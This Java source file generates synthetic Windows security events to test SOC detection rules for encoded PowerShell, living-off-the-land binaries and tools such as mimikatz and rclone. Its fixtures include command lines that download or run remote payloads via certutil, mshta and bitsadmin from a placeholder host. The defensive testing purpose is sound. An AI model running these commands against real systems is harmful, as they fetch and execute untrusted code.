package com.socmate.adapters.sentinel.sample;

import com.socmate.adapters.sentinel.sample.Manifest.FindingKey;
import com.socmate.adapters.sentinel.sample.World.Machine;

/// Programs that have no business where they are started.
final class WindowsProcessStories implements Story {
  private static final String TABLE = WindowsEvents.SECURITY;
  private static final String SYSTEM32 = "C:\\Windows\\System32\\";
  private static final String POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe";

  @Override
  public void tell(Stage stage) {
    encoded(new Planting(stage, Intent.ENCODED_POWERSHELL, TABLE));
    tools(new Planting(stage, Intent.LOLBINS, TABLE));
    named(new Planting(stage, Intent.PROCESS_STARTS, TABLE));
  }

  private static String account(Planting plot, int n) {
    return World.DOMAIN + "\\" + plot.cast(6).get(n).account();
  }

  private static FindingKey key(Planting plot, Machine on, int n) {
    return FindingKey.of("Computer", on.name(), "Account", account(plot, n));
  }

  private static Planting.Maker started(
      Planting plot, Machine on, int n, String image, String commandLine) {
    return (dice, at, _) ->
        new WindowsEvents(dice)
            .childProcess(
                at, on, account(plot, n), image, commandLine, "C:\\Windows\\explorer.exe");
  }

  private static void encoded(Planting plot) {
    var on = plot.servers(5);
    var blob = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=";
    var lines =
        new String[] {
          "powershell.exe -NoP -enc " + blob,
          "powershell.exe -EncodedCommand " + blob,
          "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\report.ps1",
          "powershell.exe -e short",
          "powershell.exe -enc " + blob
        };
    for (int n = 0; n < 2; n++) {
      plot.incident(
          "encoded-" + (n + 1),
          key(plot, on.get(n), n),
          "A command is hidden in base64.",
          1,
          started(plot, on.get(n), n, POWERSHELL, lines[n]));
    }
    plot.nearMiss(
        "a-script-file",
        key(plot, on.get(2), 2),
        "A script in a file, as administrators start it.",
        2,
        started(plot, on.get(2), 2, POWERSHELL, lines[2]));
    plot.nearMiss(
        "too-short",
        key(plot, on.get(3), 3),
        "What follows is no encoded command.",
        1,
        started(plot, on.get(3), 3, POWERSHELL, lines[3]));
    plot.tooEarly(
        "before-the-window",
        key(plot, on.get(4), 4),
        1,
        started(plot, on.get(4), 4, POWERSHELL, lines[4]));
  }

  private static void tools(Planting plot) {
    var on = plot.servers(5);
    plot.incident(
        "certutil-fetches",
        key(plot, on.get(0), 0),
        "certutil fetches a file.",
        1,
        started(
            plot,
            on.get(0),
            0,
            SYSTEM32 + "certutil.exe",
            "certutil -urlcache -split -f http://files.example/a.txt a.exe"));
    plot.incident(
        "mshta-runs",
        key(plot, on.get(1), 1),
        "mshta runs a page from afar.",
        1,
        started(
            plot, on.get(1), 1, SYSTEM32 + "mshta.exe", "mshta.exe http://files.example/a.hta"));
    plot.nearMiss(
        "certutil-for-certificates",
        key(plot, on.get(2), 2),
        "certutil lists certificates, which is what it is for.",
        2,
        started(plot, on.get(2), 2, SYSTEM32 + "certutil.exe", "certutil -store my"));
    plot.nearMiss(
        "rundll32-of-windows",
        key(plot, on.get(3), 3),
        "rundll32 opens a part of Windows.",
        2,
        started(
            plot,
            on.get(3),
            3,
            SYSTEM32 + "rundll32.exe",
            "rundll32.exe shell32.dll,Control_RunDLL"));
    plot.tooEarly(
        "before-the-window",
        key(plot, on.get(4), 4),
        1,
        started(
            plot,
            on.get(4),
            4,
            SYSTEM32 + "bitsadmin.exe",
            "bitsadmin /transfer x http://files.example/a a"));
  }

  private static void named(Planting plot) {
    var on = plot.servers(5);
    var images =
        new String[] {
          "C:\\Users\\Public\\rclone.exe",
          "C:\\Tools\\mimikatz.exe",
          "C:\\Tools\\notrclone.exe",
          "C:\\Tools\\rclone-docs.exe",
          "C:\\Users\\Public\\rclone.exe"
        };
    for (int n = 0; n < 2; n++) {
      plot.incident(
          "named-" + (n + 1),
          program(plot, on.get(n), n, images[n]),
          "One of the named programs is started.",
          1,
          started(plot, on.get(n), n, images[n], "x"));
    }
    for (int n = 2; n < 4; n++) {
      plot.nearMiss(
          "another-name-" + n,
          program(plot, on.get(n), n, images[n]),
          "The program is called otherwise.",
          1,
          started(plot, on.get(n), n, images[n], "x"));
    }
    plot.tooEarly(
        "before-the-window",
        program(plot, on.get(4), 4, images[4]),
        1,
        started(plot, on.get(4), 4, images[4], "x"));
  }

  private static FindingKey program(Planting plot, Machine on, int n, String image) {
    return FindingKey.of(
        "Computer", on.name(), "Account", account(plot, n), "NewProcessName", image);
  }
}
